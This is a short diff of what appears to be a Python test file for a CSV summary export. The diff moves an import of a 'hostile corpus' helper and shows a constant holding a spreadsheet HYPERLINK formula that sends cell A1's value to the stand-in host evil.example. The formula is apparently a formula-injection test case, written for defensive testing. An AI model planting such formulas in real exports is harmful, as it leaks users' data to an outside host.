@@ -5,10 +5,9 @@ import csv
 import io
 import sqlite3
 
-from hostile_corpus import make_store
-
 from coach.batch import BatchResult, Outcome, summary_csv
 from coach.cli import main
+from tests.support.hostile_corpus import make_store
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
 
